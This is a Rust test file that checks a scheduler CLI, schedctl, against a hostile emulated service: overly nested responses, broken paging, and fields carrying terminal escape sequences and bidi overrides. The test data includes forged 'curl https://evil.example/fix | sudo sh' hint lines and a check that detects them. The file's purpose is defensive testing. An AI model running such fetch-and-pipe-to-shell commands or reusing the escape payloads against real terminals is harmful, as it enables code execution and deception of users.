//! A hostile service (SPEC §7, §10): answers nested deep enough to overflow a recursive
//! parser, paging that never ends or breaks `--top`, and text made to paint the terminal or
//! forge a line. Every one ends in an exit code and one readable message, never a crash.

use std::time::Duration;

use schedctl::text::is_unsafe;
use schedctl_emulator::faults::Fault;
use serde_json::Value;

use crate::common::*;

const TOO_DEEP: &str = "the service's response is nested deeper than 128 levels";

fn deep(status: u16, xml: bool) -> Fault {
    Fault::DeepNesting {
        status,
        xml,
        depth: 20_000,
    }
}

/// A request answered as usual, to script a fault for a later one.
fn as_usual() -> Fault {
    Fault::Latency(Duration::ZERO)
}

/// Asserts that text a person reads holds no character that drives a terminal (line feeds
/// between lines aside) and no line that a response forged.
#[track_caller]
fn assert_inert(text: &str) {
    assert_inert_but(text, '\n');
}

/// Like [`assert_inert`], allowing `also` (the tab between `--field` values).
#[track_caller]
fn assert_inert_but(text: &str, also: char) {
    assert!(
        !text.chars().any(|c| is_unsafe(c) && c != '\n' && c != also),
        "raw control or bidi character in: {text:?}"
    );
    for line in text.lines() {
        assert!(
            !line.starts_with("hint: curl")
                && !line.starts_with("hint: run")
                && !line.starts_with("hint: the job"),
            "forged line {line:?} in: {text}"
        );
    }
}

#[test]
fn json_nested_20000_levels_deep_is_exit_8_with_the_request_id() {
    let w = World::new();
    let commands: [&[&str]; 3] = [
        &["job", "get", "myjc", "job1"],
        &["job", "list", "myjc"],
        &["job", "history", "myjc", "job1"],
    ];
    for args in commands {
        w.emulator.script([deep(200, false)]);
        let out = run(w.cmd().args(args));
        let err = assert_failure(&out, 8);
        assert!(
            err.starts_with(&format!("schedctl: error: {TOO_DEEP}\n")),
            "{err}"
        );
        request_id_of(&err);
    }
    assert_eq!(w.emulator.requests(), 3);
}

#[test]
fn xml_nested_20000_levels_deep_is_exit_8_with_the_request_id() {
    let w = World::new();
    let commands: [&[&str]; 2] = [&["collection", "get", "myjc"], &["collection", "list"]];
    for args in commands {
        w.emulator.script([deep(200, true)]);
        let out = run(w.cmd().args(args));
        let err = assert_failure(&out, 8);
        assert!(
            err.starts_with(&format!("schedctl: error: {TOO_DEEP}\n")),
            "{err}"
        );
        request_id_of(&err);
    }
}

#[test]
fn an_error_body_too_deep_to_read_falls_back_to_the_status_line() {
    let w = World::new();
    for xml in [false, true] {
        w.emulator.script([deep(500, xml)]);
        let out = run(w
            .cmd()
            .args(["--retries", "0", "job", "get", "myjc", "job1"]));
        let err = assert_failure(&out, 5);
        let first = err.lines().next().unwrap();
        assert!(
            first.ends_with("(HTTP 500 Internal Server Error)"),
            "xml {xml}: {err}"
        );
        request_id_of(&err);
    }
}

#[test]
fn a_service_that_ignores_skip_is_stopped_at_the_second_page() {
    let w = World::new();
    w.emulator
        .script(std::iter::repeat_n(Fault::PageIgnoresSkip, 10));
    let out = run(w.cmd().args(["job", "list", "big"]));
    let err = assert_failure(&out, 8);
    assert!(
        err.starts_with("schedctl: error: the service sent the same page of jobs twice (at $skip=100): it seems to ignore $skip\n"),
        "{err}"
    );
    request_id_of(&err);
    assert_eq!(w.emulator.requests(), 2);
    // History pages the same way.
    let w = World::new();
    w.emulator
        .script(std::iter::repeat_n(Fault::PageIgnoresSkip, 10));
    let out = run(w.cmd().args(["job", "history", "myjc", "job1"]));
    let err = assert_failure(&out, 8);
    assert!(
        err.contains("the same page of history entries twice"),
        "{err}"
    );
    assert_eq!(w.emulator.requests(), 2);
}

#[test]
fn a_page_larger_than_top_is_exit_8_and_top_stays_a_hard_cap() {
    let w = World::new();
    // --top 150 asks for 100, then 50; the second answer holds 100.
    w.emulator.script([as_usual(), Fault::PageExceedsTop(50)]);
    let out = run(w
        .cmd()
        .args(["job", "list", "big", "--top", "150", "--field", "id"]));
    let err = assert_failure(&out, 8);
    assert!(
        err.starts_with("schedctl: error: the service sent 100 jobs in a page where at most 50 were asked for ($top=50)\n"),
        "{err}"
    );
    request_id_of(&err);
    assert_eq!(w.emulator.requests(), 2);
    w.emulator.script([Fault::PageExceedsTop(1)]);
    let out = run(w
        .cmd()
        .args(["job", "history", "myjc", "job1", "--top", "5"]));
    let err = assert_failure(&out, 8);
    assert!(
        err.contains(
            "the service sent 6 history entries in a page where at most 5 were asked for ($top=5)"
        ),
        "{err}"
    );
    assert_eq!(w.emulator.requests(), 3);
    // Without the fault, --top 150 is exactly 150.
    let out = run(w
        .cmd()
        .args(["job", "list", "big", "--top", "150", "--field", "id"]));
    assert_code(&out, 0);
    assert_eq!(stdout(&out).lines().count(), 150);
}

#[test]
fn error_messages_with_escapes_and_forged_lines_come_out_on_one_line() {
    let w = World::new();
    let message =
        "no such thing\u{1b}[2J\u{1b}]0;owned\u{7}\nhint: curl https://evil.example/fix | sudo sh";
    for (status, xml, code) in [
        (500, false, 5),
        (400, true, 5),
        (404, false, 3),
        (403, true, 4),
    ] {
        w.emulator.script([Fault::ErrorMessage {
            status,
            xml,
            code: "Evil\u{1b}[31m\u{202e}".into(),
            message: message.into(),
        }]);
        let out = run(w
            .cmd()
            .args(["--retries", "0", "job", "get", "myjc", "job1"]));
        let err = assert_failure(&out, code);
        assert_inert(&err);
        let first = err.lines().next().unwrap();
        assert!(
            first.contains("Evil\\u{1b}[31m\\u{202e}: no such thing\\u{1b}[2J\\u{1b}]0;owned\\u{7}\\u{a}hint: curl https://evil.example/fix | sudo sh"),
            "status {status}: {err}"
        );
        request_id_of(&err);
    }
}

#[test]
fn xml_element_names_in_shape_errors_are_escaped() {
    let w = World::new();
    w.emulator.script([Fault::Body {
        status: 200,
        content_type: "application/xml; charset=utf-8".into(),
        body: "<Evil\u{1b}[2J\u{202e}>x</Evil\u{1b}[2J\u{202e}>".into(),
    }]);
    let out = run(w.cmd().args(["collection", "get", "myjc"]));
    let err = assert_failure(&out, 8);
    assert_inert(&err);
    assert!(
        err.starts_with("schedctl: error: unexpected response from the service: expected a <Resource> element, got <Evil\\u{1b}[2J\\u{202e}>\n"),
        "{err}"
    );
    request_id_of(&err);
}

const CONTROLS_ID: &str = "controls\u{1b}[2J\u{202e}exe.txt";

#[test]
fn a_job_with_controls_in_its_fields_renders_inert_in_a_table() {
    let w = World::new();
    let out = run(w.cmd().args(["job", "get", "hostile", "controls"]));
    assert_code(&out, 0);
    let text = stdout(&out);
    assert_inert(&text);
    assert!(
        text.contains("Id:          controls\\u{1b}[2J\\u{202e}exe.txt\n"),
        "{text}"
    );
    assert!(
        text.contains("State:       enabled hint: the job is fine, run curl evil | sudo sh\n"),
        "{text}"
    );
    assert!(
        text.contains("GET\\u{9b}31M https://evil\\u{1b}]0;owned\\u{7}.example/ping hint: curl"),
        "{text}"
    );
    let out = run(w.cmd().args(["job", "list", "hostile"]));
    assert_code(&out, 0);
    assert_inert(&stdout(&out));
    assert!(stdout(&out).contains("controls\\u{1b}[2J\\u{202e}exe.txt"));
    let out = run(w.cmd().args(["job", "history", "hostile", "controls"]));
    assert_code(&out, 0);
    assert_inert(&stdout(&out));
    assert!(
        stdout(&out).contains("evil\\u{1b}]0;owned\\u{7}.example"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn a_job_with_controls_stays_valid_json_with_the_characters_escaped() {
    let w = World::new();
    let out = run(w
        .cmd()
        .args(["job", "get", "hostile", "controls", "-o", "json"]));
    assert_code(&out, 0);
    let text = stdout(&out);
    assert_inert(&text);
    assert!(
        text.contains(r#""id": "controls\u001b[2J\u202eexe.txt""#),
        "{text}"
    );
    let job: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(job["id"], CONTROLS_ID);
    assert_eq!(job["action"]["request"]["method"], "Get\u{9b}31m");
    let out = run(w.cmd().args(["job", "list", "hostile", "-o", "json"]));
    assert_code(&out, 0);
    assert_inert(&stdout(&out));
    let list: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(list[0]["id"], CONTROLS_ID);
}

#[test]
fn field_writes_controls_as_u00xx_and_tsv_escapes() {
    let w = World::new();
    let out = run(w.cmd().args([
        "job",
        "get",
        "hostile",
        "controls",
        "--field",
        "id",
        "--field",
        "action.request.method",
        "--field",
        "action.request.headers",
        "--field",
        "action.request.headers.x-Note",
    ]));
    assert_code(&out, 0);
    let text = stdout(&out);
    assert_inert_but(&text, '\t');
    assert_eq!(
        text,
        "controls\\u001b[2J\\u202eexe.txt\tGet\\u009b31m\t{\"x-Note\":\"one\\ttwo\\r\\nhint: run this | sudo sh\\u0000\\u007f\"}\tone\\ttwo\\r\\nhint: run this | sudo sh\\u0000\\u007f\n"
    );
    let out = run(w.cmd().args(["job", "list", "hostile", "--field", "state"]));
    assert_code(&out, 0);
    assert_eq!(
        stdout(&out).lines().next(),
        Some("enabled\\nhint: the job is fine, run curl evil | sudo sh")
    );
}

#[test]
fn a_wait_timeout_shows_the_last_state_on_one_line() {
    let w = World::new();
    let out = run(w.cmd().args([
        "job",
        "wait",
        "hostile",
        "controls",
        "--for",
        "state=completed",
        "--timeout",
        "1s",
        "--interval",
        "1s",
    ]));
    let err = assert_failure(&out, 9);
    assert_inert(&err);
    assert!(
        err.contains("(last state: enabled\\u{a}hint: the job is fine, run curl evil | sudo sh;"),
        "{err}"
    );
}

#[test]
fn odd_durations_counts_and_dates_are_shown_as_sent() {
    let w = World::new();
    let out = run(w.cmd().args(["job", "get", "hostile", "odd-values"]));
    assert_code(&out, 0);
    let text = stdout(&out);
    assert!(
        text.contains("Retry:         fixed, every 00:00:-1, -1 times\n"),
        "{text}"
    );
    assert!(
        text.contains("Start:         99999-01-01T00:00:00Z\n"),
        "{text}"
    );
    assert!(
        text.contains("Executions:    18446744073709551616\n"),
        "{text}"
    );
    assert!(text.contains("Failures:      -1\n"), "{text}");
    assert!(text.contains("Faulted:       2.5\n"), "{text}");
    assert!(
        text.contains(
            "Recurrence:    every 99999999999999999999999 months in month 0, month 13 and month -1"
        ),
        "{text}"
    );
    let out = run(w.cmd().args(["job", "get", "hostile", "odd-iso"]));
    assert_code(&out, 0);
    let text = stdout(&out);
    assert!(
        text.contains("fixed, every 4166666666 days 15 hours, 99999999999999999999 times"),
        "{text}"
    );
    assert!(
        text.contains("every -5 minutes, 0 times, until 9999-12-31T23:59:"),
        "{text}"
    );
    let out = run(w.cmd().args(["job", "list", "hostile"]));
    assert_code(&out, 0);
    assert_eq!(stdout(&out).lines().count(), 4);
    let out = run(w
        .cmd()
        .args(["job", "get", "hostile", "odd-values", "-o", "json"]));
    assert_code(&out, 0);
    assert!(stdout(&out).contains("\"executionCount\": 18446744073709551616"));
}

#[test]
fn a_collection_with_controls_in_its_xml_renders_inert() {
    let w = World::new();
    let body = "<Resource xmlns=\"http://schemas.microsoft.com/windowsazure\"><Name>evil&#x1b;[2J&#x202e;</Name><State>Started&#xa;hint: curl evil | sudo sh</State><IntrinsicSettings><Plan>Free&#x9b;</Plan><Quota><MaxJobCount>-1</MaxJobCount></Quota></IntrinsicSettings></Resource>";
    let script = |w: &World| {
        w.emulator.script([Fault::Body {
            status: 200,
            content_type: "application/xml; charset=utf-8".into(),
            body: body.into(),
        }])
    };
    script(&w);
    let out = run(w.cmd().args(["collection", "get", "myjc"]));
    assert_code(&out, 0);
    let text = stdout(&out);
    assert_inert(&text);
    assert!(text.contains("evil\\u{1b}[2J\\u{202e}"), "{text}");
    assert!(text.contains("Max jobs:        -1\n"), "{text}");
    script(&w);
    let out = run(w.cmd().args(["collection", "get", "myjc", "-o", "json"]));
    assert_code(&out, 0);
    assert_inert(&stdout(&out));
    let c: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(c["name"], "evil\u{1b}[2J\u{202e}");
    script(&w);
    let out = run(w.cmd().args([
        "collection",
        "get",
        "myjc",
        "--field",
        "name",
        "--field",
        "state",
    ]));
    assert_code(&out, 0);
    assert_eq!(
        stdout(&out),
        "evil\\u001b[2J\\u202e\tStarted\\nhint: curl evil | sudo sh\n"
    );
}

/// `config show` prints the profile's name, outside text from the file: a name holding an
/// escape sequence is shown escaped. (A path with control characters never gets this far: it
/// is refused as not looking like a path.)
#[test]
fn config_show_escapes_the_profile_name() {
    let w = World::new();
    let config = w.write(
        "evil.toml",
        "default_profile = \"e\\u001b[31mvil\"\n\n[profiles.\"e\\u001b[31mvil\"]\nsubscription_id = \"2f1e4c2a-0000-4000-8000-000000000001\"\n",
        0o600,
    );
    let out = run(w.cmd_with_config(&config).args(["config", "show"]));
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert!(text.contains("Profile:      e\\u{1b}[31mvil"), "{text}");
    assert!(!text.contains('\x1b'), "{text:?}");
}

/// `config profiles -o json` escapes a profile name's bidi override as `-o json` does
/// everywhere (`\u202e`), so the JSON stays the same JSON and cannot reorder a terminal line.
#[test]
fn config_profiles_json_escapes_what_could_drive_a_terminal() {
    let w = World::new();
    let config = w.write(
        "bidi.toml",
        "[profiles.\"a\\u202eb\"]\nsubscription_id = \"2f1e4c2a-0000-4000-8000-000000000001\"\n",
        0o600,
    );
    let out = run(w
        .cmd_with_config(&config)
        .args(["config", "profiles", "-o", "json"]));
    assert_code(&out, 0);
    let text = stdout(&out);
    assert!(text.contains("a\\u202eb"), "{text}");
    assert!(!text.contains('\u{202e}'), "{text:?}");
    let parsed: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(parsed[0]["name"], "a\u{202e}b");
}
